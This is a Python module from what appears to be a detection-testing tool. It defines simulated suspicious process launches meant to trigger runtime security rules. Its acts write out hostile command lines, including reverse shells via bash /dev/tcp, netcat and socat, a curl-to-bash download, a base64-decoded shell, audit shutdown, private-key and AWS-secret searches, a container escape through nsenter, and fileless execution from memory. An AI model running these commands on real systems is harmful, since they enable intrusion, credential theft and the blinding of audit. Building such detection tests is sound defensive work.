"""Acts that start a program: ``true`` under its name, with its arguments, below its parents."""

from __future__ import annotations

import os
import shutil
from collections.abc import Mapping, Sequence

from sidekick.acts import kernel_calls as kernel
from sidekick.acts.act import Act, Perform
from sidekick.acts.scene import ELSEWHERE, Scene

_STABLE_SHELL = "Run shell untrusted"
_TOOL_INSIDE = "Launch Suspicious Network Tool in Container"


def started(
    program: str,
    *arguments: str,
    parents: Sequence[str] = ("bash",),
    tty: bool = False,
    environment: Mapping[str, str] | None = None,
) -> Perform:
    """An act that starts a program."""

    def perform(scene: Scene) -> None:
        scene.start(program, *arguments, parents=parents, tty=tty, environment=environment)

    return perform


def _from_memory(scene: Scene) -> None:
    def become() -> None:
        descriptor = os.memfd_create("act", 0)
        with open("/bin/true", "rb") as program:
            os.write(descriptor, program.read())
        os.execv(f"/proc/self/fd/{descriptor}", ["act"])

    scene.below(("bash",), become)


def _from_shared_memory(scene: Scene) -> None:
    path = f"/dev/shm/sidekick-act-{os.getpid()}"
    shutil.copy("/bin/true", path)
    try:
        scene.below(("bash",), lambda: os.execv(path, [path]))
    finally:
        os.unlink(path)


def _not_in_the_image(scene: Scene) -> None:
    """A program that was put into the upper layer of an overlay, as a container's are."""
    kernel.unshare(kernel.CLONE_NEWNS)
    kernel.mount("none", "/", "", kernel.MS_REC | kernel.MS_PRIVATE)
    kernel.mount("none", str(scene.folder), "tmpfs")
    layers = [scene.folder / name for name in ("lower", "upper", "work", "merged")]
    for layer in layers:
        layer.mkdir()
    lower, upper, work, merged = layers
    options = f"lowerdir={lower},upperdir={upper},workdir={work}"
    kernel.mount("none", str(merged), "overlay", 0, options)
    shutil.copy("/bin/true", merged / "tool")
    scene.below(("bash",), lambda: os.execv(merged / "tool", ["tool"]))


ACTS = (
    Act("run-from-memory", _from_memory, ("Program run from memory",),
        ("Fileless execution via memfd_create",)),
    Act("crypto-miner", started("xmrig", "--threads=1"), ("Crypto miner started",),
        ("Known Cryptominer Process Executed",)),
    Act("mining-pool", started("worker", "-o", f"stratum+tcp://{ELSEWHERE}:3333"),
        ("Crypto miner started",), ("Detect crypto miners using the Stratum protocol",)),
    Act("reverse-shell-bash",
        started("bash", "-c", f"bash -i >& /dev/tcp/{ELSEWHERE}/4444 0>&1", parents=("nginx",)),
        ("Reverse shell command",), (_STABLE_SHELL, "Reverse Shell from Web Server")),
    Act("reverse-shell-netcat", started("nc", "-e", "/bin/sh", ELSEWHERE, "4444"),
        ("Reverse shell command",), ("Netcat Remote Code Execution in Container", _TOOL_INSIDE),
        container=True),
    Act("reverse-shell-socat", started("socat", f"TCP:{ELSEWHERE}:80", "EXEC:sh"),
        ("Reverse shell command",), ("Netcat/Socat Remote Code Execution on Host",)),
    Act("enter-host", started("nsenter", "-t", "1", "-m", "sh"),
        ("Host entered from a container",), container=True),
    Act("run-from-shared-memory", _from_shared_memory, ("Program run from shared memory",),
        ("Execution from /dev/shm",)),
    Act("run-what-is-not-in-the-image", _not_in_the_image,
        ("Program run that is not in the image",),
        ("Drop and execute new binary in container",), container=True),
    Act("download-to-shell", started("sh", "-c", f"curl http://{ELSEWHERE}/x | bash"),
        ("Download run by a shell",)),
    Act("encoded-command", started("sh", "-c", "echo aWQ= | base64 -d | sh"),
        ("Encoded command run by a shell",), ("Decoding Payload in Container",), container=True),
    Act("stop-audit", started("systemctl", "stop", "auditd"), ("Security service stopped",)),
    Act("destroy-data", started("shred", "-u", "nothing"), ("Data destroyed",),
        ("Remove Bulk Data from Disk",)),
    Act("mount-disk", started("mount", "/dev/sda1", "/mnt"),
        ("Disk or mount tool run in a container with power",), container=True),
    Act("web-shell", started("sh", "-c", "id", parents=("nginx",)),
        ("Shell started by a server program",), (_STABLE_SHELL, "Web Server Spawned Shell")),
    Act("search-keys", started("find", "/nowhere", "-name", "id_rsa"),
        ("Search for keys or credentials",), ("Search Private Keys or Passwords",)),
    Act("search-cloud-keys", started("grep", "-r", "aws_secret_access_key", "/nowhere"),
        ("Search for keys or credentials",), ("Find AWS Credentials",)),
    Act("scan-network", started("nmap", "-sn", ELSEWHERE), ("Network scanner run in a container",),
        (_TOOL_INSIDE,), container=True),
    Act("cluster-client", started("kubectl", "get", "secrets"),
        ("Cluster client run in a container",), ("Kubernetes Client Tool Launched in Container",),
        container=True),
    Act("install-package", started("apt-get", "install", "nothing"),
        ("Packages installed in a running container",),
        ("Launch Package Management Process in Container",), container=True),
    Act("shell-in-container", started("bash", parents=("runc",), tty=True),
        ("Shell opened in a container",), ("Terminal shell in container",), container=True),
    Act("add-account", started("useradd", "nobody-at-all"), ("Account changed",),
        ("User mgmt binaries",)),
    Act("sudo", started("sudo", "true"), ("Command run as another user",)),
    Act("audit-off", started("auditctl", "-e", "0"), ("Audit rules changed",)),
)  # fmt: skip
